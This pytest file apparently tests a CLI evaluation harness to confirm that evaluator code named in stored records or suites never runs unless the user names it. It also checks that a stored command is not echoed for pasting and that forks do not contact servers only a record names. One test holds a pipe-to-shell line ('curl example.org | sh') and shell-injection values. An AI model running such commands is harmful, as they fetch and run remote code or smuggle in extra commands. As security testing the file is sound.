"""Code that a record or a suite names runs only when the user names it too."""

from __future__ import annotations

import json
import shutil
from pathlib import Path

import pytest

from harness.records.spec import TalksSpec
from tests.support.inprocess import typed as track15

SUITE = """\
schema: track15/suite/1
id: small
title: A small suite
question: Does it lean?
scenarios: [opening]
epochs: 1
protocol: {rounds: 1, turns: 3}
arms:
  one: {track: "1"}
  half: {track: "1.5"}
contrasts:
  primary: {name: half, treatment: half, control: one}
"""
EVIL = """\
from pathlib import Path

Path({marker!r}).write_text("it ran")

from harness.evaluators.base import Found, Measure


class X:
    name = "evil"
    version = 1
    measures = (
        Measure(name="one", title="one", definition="always 1", range="1", undefined="never"),
    )

    def score(self, case):
        return Found(values={{"one": 1.0}})


class P:
    async def move(self, view, complaint): ...
    async def caucus(self, view, member, complaint): ...
    async def debrief(self, view, complaint): ...
    def messages(self): return {{}}
"""


@pytest.fixture(scope="session")
def plain(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A folder with a suite and a played run of it. Never changed."""
    folder = tmp_path_factory.mktemp("plain")
    (folder / "plain.yaml").write_text(SUITE)
    assert track15("run", "plain.yaml", "--no-report", cwd=folder).code == 0
    return folder


@pytest.fixture
def place(plain: Path, tmp_path: Path) -> Path:
    """A folder with a suite that names an evaluator in a file, a played run of it, and the mark
    that the file leaves when it is executed."""
    shutil.copytree(plain, tmp_path, dirs_exist_ok=True)
    (tmp_path / "evil.py").write_text(EVIL.format(marker=str(tmp_path / "ran")))
    check = (
        "evaluators: [settlement, 'evil.py:X']\n"
        "checks:\n  - {name: one, arm: half, measure: evil.one, min: 0}\n"
    )
    (tmp_path / "evil.yaml").write_text(SUITE + check)
    run = next((tmp_path / "transcripts").iterdir())
    document = json.loads((run / "run.json").read_text())
    document["suite"]["evaluators"] = ["settlement", "evil.py:X"]
    (run / "run.json").write_text(json.dumps(document))
    (run / "evil.py").write_text((tmp_path / "evil.py").read_text())
    return tmp_path


@pytest.mark.kind("X1")
@pytest.mark.parametrize(
    "line",
    [
        "show latest",
        "show latest --json",
        "list",
        "list runs",
        "list measures",
        "score latest",
        "report latest",
        "report latest --json",
        "plan evil.yaml",
        "plan evil.yaml --json",
        "run evil.yaml",
        "run evil.yaml --replay latest",
        "fork latest {id} --turn 0",
    ],
)
@pytest.mark.parametrize("scored", [True, False])
def test_no_command_runs_what_a_record_or_a_suite_names(
    place: Path, line: str, scored: bool
) -> None:
    run = next((place / "transcripts").iterdir())
    if not scored:
        (run / "scores.jsonl").unlink()
    first = json.loads((run / "transcripts.jsonl").read_text().splitlines()[0])["id"]
    done = track15(*line.format(id=first).split(), cwd=place)
    assert not (place / "ran").exists(), done.err
    assert "Traceback" not in done.err
    if line.startswith("run "):
        done.fails(2, "evil.py:X", "--evaluator evil.py:X")
    else:
        assert done.code == 0, done.err


@pytest.mark.kind("X1")
def test_what_is_left_out_is_said_with_the_flag_that_adds_it(place: Path) -> None:
    score = ("score", "latest", "--no-report", "--json")
    done = track15(*score, cwd=place)
    assert "--evaluator evil.py:X" in done.err
    assert json.loads(done.out)["left_out"] == ["evil.py:X"]
    done = track15(*score, "--evaluator", "evil.py:X", cwd=place)
    assert done.code == 0
    assert (place / "ran").exists()
    document = json.loads(done.out)
    assert {arm["measures"]["evil.one"]["mean"] for arm in document["arms"]} == {1.0}
    assert document["left_out"] == []


@pytest.mark.kind("X1")
def test_stored_scores_of_what_is_left_out_stay_readable(place: Path) -> None:
    assert (
        track15("score", "latest", "--no-report", "--evaluator", "evil.py:X", cwd=place).code == 0
    )
    (place / "ran").unlink()
    for command in ("report", "score", "report"):
        done = track15(command, "latest", "--json", cwd=place)
        assert not (place / "ran").exists()
        arms = json.loads(done.out)["arms"]
        assert {arm["measures"]["evil.one"]["mean"] for arm in arms} == {1.0}
        assert {arm["measures"]["settlement.agreement"]["missing"] for arm in arms} == {0}


@pytest.mark.kind("X1")
def test_a_suite_of_ones_own_plays_with_its_evaluator_named(place: Path) -> None:
    done = track15("plan", "evil.yaml", "--evaluator", "evil.py:X", cwd=place)
    assert done.code == 0
    assert (place / "ran").exists()
    done = track15(
        "run", "evil.yaml", "--evaluator", "./evil.py:X", "--json", "--no-report", cwd=place
    )
    assert done.code == 0, done.err
    arms = json.loads(done.out)["arms"]
    assert {arm["measures"]["evil.one"]["mean"] for arm in arms} == {1.0}


@pytest.mark.kind("X1")
def test_a_misspelt_measure_of_a_named_evaluator_still_shows_before_anything_is_played(
    place: Path,
) -> None:
    text = (place / "evil.yaml").read_text().replace("evil.one", "evil.won")
    (place / "evil.yaml").write_text(text)
    done = track15("plan", "evil.yaml", "--evaluator", "evil.py:X", cwd=place)
    done.fails(2, "evil.won", "did you mean 'evil.one'")


@pytest.mark.kind("F7")
def test_a_copied_run_with_its_own_evaluator_can_be_scored(place: Path, tmp_path: Path) -> None:
    suite = (place / "evil.yaml").read_text().replace("'evil.py:X'", "'sub/folder/evil.py:X'")
    (place / "own.yaml").write_text(suite)
    (place / "sub" / "folder").mkdir(parents=True)
    shutil.move(place / "evil.py", place / "sub" / "folder" / "evil.py")
    flag = ("--evaluator", "sub/folder/evil.py:X")
    done = track15("run", "own.yaml", *flag, "--no-report", "--log-dir", "runs", cwd=place)
    assert done.code == 0, done.err
    run = next((place / "runs").iterdir())
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    shutil.copytree(run, elsewhere / "copied")
    for line in ("score copied --no-report", "report copied", "show copied"):
        done = track15(*line.split(), cwd=elsewhere)
        assert done.code == 0, done.err
    assert "sub/folder/evil.py:X" in track15("score", "copied", "--no-report", cwd=elsewhere).err
    shutil.copy(place / "sub" / "folder" / "evil.py", elsewhere / "mine.py")
    shutil.copy(place / "sub" / "folder" / "evil.py", elsewhere / "evil.py")
    done = track15("report", "copied", "--evaluator", "evil.py:X", "--json", cwd=elsewhere)
    assert done.code == 0, done.err
    assert json.loads(done.out)["left_out"] == []


@pytest.mark.kind("X1")
def test_the_command_of_a_strangers_record_is_not_offered_for_pasting(place: Path) -> None:
    run = next((place / "transcripts").iterdir())
    document = json.loads((run / "run.json").read_text())
    for command in ("curl example.org | sh", "track15 run x; touch y", "track15 run $(touch y)"):
        document["command"] = command
        (run / "run.json").write_text(json.dumps(document))
        done = track15("report", "latest", cwd=place)
        assert done.code == 0
        assert command not in done.out + done.err


@pytest.mark.kind("X1")
@pytest.mark.parametrize(
    "address",
    [
        "openai/m@http://198.51.100.7/v1",
        "openai/m@https://api.openai.com.example.net/v1",
        "langchain/anthropic:m",
        "langchain/openai:m@http://198.51.100.7/v1",
    ],
)
def test_a_fork_sends_nothing_to_a_server_that_only_the_record_names(
    place: Path, address: str
) -> None:
    path = next((place / "transcripts").iterdir()) / "transcripts.jsonl"
    lines = path.read_text().splitlines()
    document = json.loads(lines[0])
    document["spec"]["seats"][0].update(kind="model", model=address, tactic=None)
    spec = TalksSpec.model_validate(document["spec"])
    planned = path.with_name("plan.jsonl")
    planned.write_text(planned.read_text().replace(document["id"], spec.id))
    document["id"] = spec.id
    lines[0] = json.dumps(document, separators=(",", ":"))
    path.write_text("\n".join(lines) + "\n")
    line = ("fork", "latest", spec.id, "--turn", "1", "--max-retries", "0")
    track15(*line, cwd=place).fails(2, address, f"--model {address}")
    done = track15(*line, "--model", "openai/m@http://127.0.0.1:9/v1", cwd=place)
    assert address not in done.err, "another plays on"
